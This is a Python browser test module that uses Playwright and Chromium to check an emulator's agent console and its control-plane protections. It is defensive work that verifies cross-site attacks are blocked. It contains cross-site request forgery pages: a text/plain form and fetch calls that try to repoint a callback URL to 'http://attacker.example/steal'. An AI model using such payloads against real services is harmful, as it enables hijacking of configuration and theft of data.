"""The agent console and the control plane's protections in headless Chromium (issue 21 item 5, issue 22 item 6): the
console names users as a person expects and works from a typed address or its token link; pages of another site
cannot drive the control plane, and a console they link to gets no token.

Needs Debian's ``chromium``; skipped with a reason without it, a failure under ``REQUIRE_BROWSER_TEST=1``. The module
is synchronous on purpose: Playwright's sync API holds an event loop while it is open."""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import sys
import threading
import uuid
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any, Dict, Iterator

import pytest
import requests

from connectors.servicenow.emulator import DEFAULT_PASSWORD, DEFAULT_QUEUE_SYS_ID, DEFAULT_USER
from tests import children

REPO = Path(__file__).resolve().parents[2]
CHROMIUM = os.environ.get("CHROMIUM") or shutil.which("chromium") or "/usr/bin/chromium"
CHROMIUM_ARGS = ["--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run",
                 "--disable-background-networking", "--disable-component-update", "--disable-sync"]
TIMEOUT_MS = 15_000
API = {"Accept": "application/json", "Content-Type": "application/json"}


class Emulator:
    def __init__(self) -> None:
        self.token = uuid.uuid4().hex
        self.process = children.register(subprocess.Popen(
            [sys.executable, "-m", "connectors.servicenow.emulator", "--port", "0", "--quiet"],
            cwd=REPO, stdout=subprocess.PIPE, stderr=subprocess.DEVNULL, text=True,
            env={**os.environ, "EMULATOR_CONTROL_TOKEN": self.token},
        ))
        line = self.process.stdout.readline() if self.process.stdout else ""
        assert "listening on" in line, line
        self.url = line.strip().rsplit(" ", 1)[-1]

    def control(self, path: str, body: Any = None) -> Any:
        response = requests.post(f"{self.url}/__emu/{path}", json=body or {}, timeout=10)
        response.raise_for_status()
        return response.json()

    def get(self, path: str) -> Any:
        response = requests.get(f"{self.url}/__emu/{path}", timeout=10)
        response.raise_for_status()
        return response.json()

    def va(self, body: Dict[str, Any]) -> None:
        response = requests.post(f"{self.url}/api/sn_va_as_service/bot/integration", json=body,
                                 auth=(DEFAULT_USER, DEFAULT_PASSWORD), headers=API, timeout=10)
        assert response.status_code == 200, response.text

    def connect_chat(self, text: str) -> str:
        response = requests.post(f"{self.url}/api/now/connect/support/queues/{DEFAULT_QUEUE_SYS_ID}/sessions",
                                 json={"message": text}, auth=(DEFAULT_USER, DEFAULT_PASSWORD), headers=API, timeout=10)
        return response.json()["result"]["group"]

    def stop(self) -> None:
        self.process.terminate()
        self.process.wait(timeout=10)


class Site:
    """Another site (another origin on loopback) serving the pages of an attack."""

    def __init__(self) -> None:
        self.pages: Dict[str, str] = {}
        site = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:  # noqa: N802
                page = site.pages.get(self.path, "").encode()
                self.send_response(200 if page else 404)
                self.send_header("Content-Type", "text/html; charset=utf-8")
                self.send_header("Content-Length", str(len(page)))
                self.end_headers()
                self.wfile.write(page)

            def log_message(self, *_args: Any) -> None:
                pass

        self._server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self._server.server_address[1]}"
        threading.Thread(target=self._server.serve_forever, daemon=True).start()

    def stop(self) -> None:
        self._server.shutdown()


@pytest.fixture(scope="module")
def browser() -> Iterator[Any]:
    if not Path(CHROMIUM).exists():
        reason = f"the browser test needs Chromium at {CHROMIUM} (Debian: apt-get install chromium)"
        if os.environ.get("REQUIRE_BROWSER_TEST") == "1":
            pytest.fail(reason)
        pytest.skip(reason)
    from playwright.sync_api import sync_playwright

    with sync_playwright() as playwright:
        launched = playwright.chromium.launch(executable_path=CHROMIUM, args=CHROMIUM_ARGS)
        yield launched
        launched.close()


@pytest.fixture
def emulator() -> Iterator[Emulator]:
    running = Emulator()
    yield running
    running.stop()


@pytest.fixture
def site() -> Iterator[Site]:
    running = Site()
    yield running
    running.stop()


def expect(locator: Any) -> Any:
    from playwright.sync_api import expect as playwright_expect

    return playwright_expect(locator)


def new_page(browser: Any) -> Any:
    page = browser.new_context(viewport={"width": 1180, "height": 760}).new_page()
    page.set_default_timeout(TIMEOUT_MS)
    return page


def test_the_console_names_users_by_name_or_conversation_and_acts_with_its_token(browser, emulator):
    emulator.va({
        "clientSessionId": "chat-ada", "userId": "3f2a9c1b-5d6e-4f70-8a9b-0c1d2e3f4a5b", "action": "AGENT",
        "message": {"text": "I need a human", "typed": True},
        "clientVariables": {"rasa_sender_id": "3f2a9c1b-5d6e-4f70-8a9b-0c1d2e3f4a5b"},
        "history": [{"displayName": "Ada Lovelace", "isBotMessage": False, "timestamp": "1", "type": "text",
                     "value": "my printer"}],
    })
    emulator.va({
        "clientSessionId": "chat-anon", "userId": "9e8d7c6b-0000-4000-8000-000000000000", "action": "AGENT",
        "message": {"text": "hello?", "typed": True},
        "clientVariables": {"rasa_sender_id": "9e8d7c6b-0000-4000-8000-000000000000"},
    })
    emulator.connect_chat("My laptop will not boot")
    page = new_page(browser)
    # A typed address: the page gets the token from the emulator (Sec-Fetch-Site: none).
    page.goto(f"{emulator.url}/__emu/console")
    items = page.locator('[data-testid="chat-item"]')
    expect(items).to_have_count(3)
    names = {items.nth(i).get_attribute("data-session"): items.nth(i).locator(".chat-item__name").inner_text()
             for i in range(3)}
    assert names["chat-ada"] == "Ada Lovelace"
    assert names["chat-anon"] == "Conversation 9e8d7c6b…"
    assert [name for session, name in names.items() if session not in ("chat-ada", "chat-anon")] == [
        "Conversation CHAT0010001"]
    page.locator('[data-testid="chat-item"][data-session="chat-ada"] button').click()
    page.get_by_test_id("accept").click()
    expect(page.locator('[data-testid="chat-item"][data-session="chat-ada"]')).to_have_attribute("data-state", "live")
    user_message = page.locator('[data-testid="message"][data-author="user"]').first
    assert user_message.get_attribute("data-name") == "Ada Lovelace"
    (session,) = [s for s in emulator.get("sessions")["sessions"] if s["session"] == "chat-ada"]
    assert session["state"] == "LIVE"


def test_the_token_link_works_and_leaves_the_address_bar(browser, emulator):
    emulator.connect_chat("hi")
    page = new_page(browser)
    # Opened from another page (not typed): only the fragment brings the token.
    page.goto("about:blank")
    page.evaluate("url => { window.location.href = url }", f"{emulator.url}/__emu/console#token={emulator.token}")
    page.locator('[data-testid="chat-item"]').first.wait_for()
    page.locator('[data-testid="chat-item"] button').first.click()
    page.get_by_test_id("accept").click()
    expect(page.locator('[data-testid="chat-item"]')).to_have_attribute("data-state", "live")
    assert "token" not in page.url


def test_pages_of_another_site_cannot_drive_the_control_plane(browser, emulator, site):
    target = json.dumps(f"{emulator.url}/__emu/config")
    steal = json.dumps({"va_callback_url": "http://attacker.example/steal"})
    # The review's attacks: a text/plain form (no preflight), a no-cors fetch, a JSON fetch (needs a preflight).
    site.pages["/form"] = (
        f"<form method=POST action={target} enctype=text/plain>"
        f"<input name='{steal[:-1]}, \"x\": \"' value='\"}}'></form><script>document.forms[0].submit()</script>"
    )
    site.pages["/fetch"] = f"""<script>
      const results = [];
      fetch({target}, {{method: "POST", mode: "no-cors", headers: {{"Content-Type": "text/plain"}}, body: {json.dumps(steal)}}})
        .then(() => results.push("sent"), () => results.push("blocked"))
        .then(() => fetch({target}, {{method: "POST", headers: {{"Content-Type": "application/json"}}, body: {json.dumps(steal)}}}))
        .then(() => results.push("json sent"), () => results.push("json blocked"))
        .then(() => fetch({target}).then(r => r.text()).then(t => results.push("read " + t.length), () => results.push("read blocked")))
        .finally(() => {{ document.title = results.join(","); }});
    </script>"""
    site.pages["/link"] = f"<a id=go href='{emulator.url}/__emu/console'>console</a>"
    page = new_page(browser)
    with page.expect_response(lambda r: r.url.endswith("/__emu/config")) as answered:
        page.goto(f"{site.url}/form")
    assert answered.value.status == 403
    page.goto(f"{site.url}/fetch")
    page.wait_for_function("document.title.includes('read')")
    assert page.title() == "sent,json blocked,read blocked"
    assert emulator.get("config")["va_callback_url"] is None
    # A console the other site links to loads without the token and says how to get it.
    page.goto(f"{site.url}/link")
    page.click("#go")
    banner = page.get_by_test_id("connection")
    banner.wait_for()
    assert "No control token" in banner.inner_text()
